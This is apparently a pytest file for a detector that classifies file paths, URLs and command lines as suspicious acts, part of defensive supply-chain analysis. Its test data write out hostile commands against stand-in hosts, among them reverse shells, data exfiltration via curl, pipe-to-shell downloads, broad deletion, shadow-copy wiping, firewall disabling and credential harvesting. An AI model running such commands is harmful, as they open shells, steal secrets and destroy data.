"""What paths, addresses and command lines show."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.chains.acts import Act
from pratique.analysis.chains.patterns import asks_own_name, commanded, shown


@pytest.mark.parametrize(
    ("text", "act"),
    [
        ("https://far.invalid/x.exe", Act.WRITES_EXECUTABLE),
        ("$TMP/run.sh", Act.WRITES_EXECUTABLE),
        ("assets/logo.png", Act.IMAGE),
        ("~/.ssh/authorized_keys", Act.SSH_KEYS),
        ("/etc/hosts", Act.SYSTEM_FILE),
        ("C:\\Windows\\System32\\drivers\\etc\\hosts", Act.SYSTEM_FILE),
        ("../node_modules/other/index.js", Act.OTHER_PACKAGES),
        ("*/resources/app.asar", Act.OTHER_PACKAGES),
        ("site-packages/x.pth", Act.INTERPRETER_START),
        ("~/.ipython/profile_default/startup/00.py", Act.INTERPRETER_START),
        ("%IPYTHONDIR%/profile_work/startup/00.py", Act.INTERPRETER_START),
        ("package.json", Act.MANIFEST),
        ("stratum+tcp://pool.invalid:3333", Act.MINES),
        ("https://api.github.com/user/repos", Act.REPOSITORY_API),
        ("https://bun.sh/install", Act.FETCHES_RUNTIME),
        ("http://169.254.169.254/latest", Act.METADATA),
        ("http://169.254.169.254/latest/meta-data/iam/security-credentials/x", Act.METADATA_CREDENTIALS),
        ("http://169.254.170.2/v2/credentials/x", Act.METADATA_CREDENTIALS),
        ("http://169.254.169.254/metadata/identity/oauth2/token?x", Act.METADATA_CREDENTIALS),
    ],
)
def test_a_path_or_address_shows(text: str, act: Act) -> None:
    assert act in shown(text)


@pytest.mark.parametrize(
    "text",
    ["https://far.invalid/x", "index.js", "readme.md", "a.example", "my-package.json.bak", "x.shape", ""],
)
def test_an_ordinary_path_or_address_shows_nothing(text: str) -> None:
    assert frozenset() == shown(text)


@pytest.mark.parametrize(
    ("line", "act"),
    [
        ("npm publish --access public", Act.PUBLISHES),
        ("pnpm -r publish", Act.PUBLISHES),
        ("twine upload dist/*", Act.PUBLISHES),
        ("python -m pip install x", Act.INSTALLS_PACKAGE),
        ("npx -y far-tool", Act.RUNS_PACKAGE),
        ("npx --quiet --yes @acme/far-tool@latest", Act.RUNS_PACKAGE),
        ("npm exec -y -- far-tool", Act.RUNS_PACKAGE),
        ("pnpm dlx far-tool", Act.RUNS_PACKAGE),
        ("uvx far-tool", Act.RUNS_PACKAGE),
        ("pip install numpy x", Act.INSTALLS_PACKAGE),
        ("pip install numpy -i https://far.invalid", Act.INSTALLS_PACKAGE),
        ("pip install numpy-extra", Act.INSTALLS_PACKAGE),
        ("pip install numpy; pip install x", Act.INSTALLS_PACKAGE),
        ("pip install numpy@https://far.invalid/numpy.tgz", Act.INSTALLS_PACKAGE),
        ("pip install {}", Act.INSTALLS_PACKAGE),
        ("git push origin HEAD", Act.PUSHES),
        ("curl -X POST -d @f https://far.invalid", Act.SENDS),
        ("nc -e /bin/sh far.invalid 4444", Act.STARTS_SHELL),
        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc far.invalid 4444 >/tmp/f", Act.STARTS_SHELL),
        ("powershell -NoP -W Hidden -EncodedCommand AAAA", Act.ENCODED_COMMAND),
        ("powershell -w hidden -File x.ps1", Act.STARTS_QUIETLY),
        ("powershell iex (iwr https://far.invalid/x)", Act.PIPES_TO_SHELL),
        ("wget -qO- https://far.invalid/x | sudo bash", Act.PIPES_TO_SHELL),
        ("mshta https://far.invalid/x.hta", Act.SYSTEM_FETCHER),
        ("(crontab -l; echo x) | crontab -", Act.SCHEDULES),
        ("systemctl --user enable x", Act.INSTALLS_SERVICE),
        ("rm -rf / --no-preserve-root", Act.DELETES_BROADLY),
        ("rm -rf $HOME", Act.DELETES_BROADLY),
        ("rd /s /q C:\\", Act.DELETES_BROADLY),
        ("vssadmin delete shadows /all", Act.WIPES),
        ("sudo shutdown -h now", Act.POWER_OFF),
        ("netsh advfirewall set allprofiles state off", Act.SECURITY_OFF),
        ("unset HISTFILE", Act.TRACES_REMOVED),
        ("chmod +x ./x", Act.MAKES_EXECUTABLE),
        ("attrib +h x.exe", Act.HIDES_FILE),
        ("trufflehog filesystem / --json", Act.SECRET_SCANNER),
        ("find ~/.ssh | xargs cat", Act.TAKES_SECRETS),
        ("tar czf x.tgz $HOME/.aws", Act.TAKES_SECRETS),
        ("type %USERPROFILE%\\.npmrc", Act.TAKES_SECRETS),
        ("gemini --yolo -p x", Act.AGENT_UNLEASHED),
        ("bun run bundle.js", Act.STARTS_INTERPRETER),
        ("/bin/bash -i", Act.STARTS_SHELL),
    ],
)
def test_a_command_line_does(line: str, act: Act) -> None:
    assert act in commanded(line)


@pytest.mark.parametrize(
    "line",
    [
        "node-gyp rebuild",
        "pip install --upgrade pip setuptools",
        "{} -m pip install pybind11>=2.6",
        "git clone https://far.invalid/x",
        "rm -rf build dist",
        "rm -rf ./node_modules",
        "npm run publish-docs",
        "npm run build",
        "curl -sSL -o x https://far.invalid/x",
        "bash script.sh",
        "tsc -p .",
        "docker build -t x .",
        "cat ~/.ssh/known_hosts",
        "cat ./.npmrc",
        "mkdir -p ~/.ssh",
        "",
    ],
)
def test_an_ordinary_command_line_does_nothing_that_chains_are_made_of(line: str) -> None:
    assert frozenset() == commanded(line)


@given(st.text(max_size=700))
def test_any_text_shows_acts(text: str) -> None:
    assert shown(text) | commanded(text) <= set(Act)


@pytest.mark.parametrize(
    "unit",
    ["curl ", "| ", "powershell ", "npm a ", "-", "/", "git -c x ", "a.", "$(", "rm -r ", "iwr ", "cat ~/"],
)
def test_hostile_text_costs_little(unit: str) -> None:
    text = unit * 500
    start = time.process_time()
    commanded(text)
    shown(text)
    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    "path", ["/usr/lib/python3/site-packages/a.pth", "{}/a1.pth", "C:\\\\py\\\\a.pth", "{}a.pth"]
)
def test_a_path_file_in_a_folder_is_a_start(path: str) -> None:
    assert Act.INTERPRETER_START in shown(path)


@pytest.mark.parametrize("path", ["a.pth", "weights.pth"])
def test_a_bare_name_of_the_project_s_own_folder_is_none(path: str) -> None:
    assert Act.INTERPRETER_START not in shown(path)


def test_the_cache_of_tools_is_no_package() -> None:
    assert Act.OTHER_PACKAGES not in shown("${_}/node_modules/.cache/tool/program")
    assert Act.OTHER_PACKAGES in shown("${_}/node_modules/.vite/deps/react.js")
    assert Act.OTHER_PACKAGES in shown("node_modules/.cache/../other/index.js")
    assert Act.OTHER_PACKAGES in shown("node_modules/.pnpm/other/index.js")
    assert Act.OTHER_PACKAGES in shown("node_modules/.bin/other")


def test_only_the_machine_s_own_resolver_is_asked_by_its_own_name() -> None:
    assert asks_own_name("dns.lookup", "${hostname}")
    assert not asks_own_name("dns.lookup", None)
    assert not asks_own_name("dns.lookup", "loot.invalid")
    assert not asks_own_name("dns.resolve", "${hostname}")
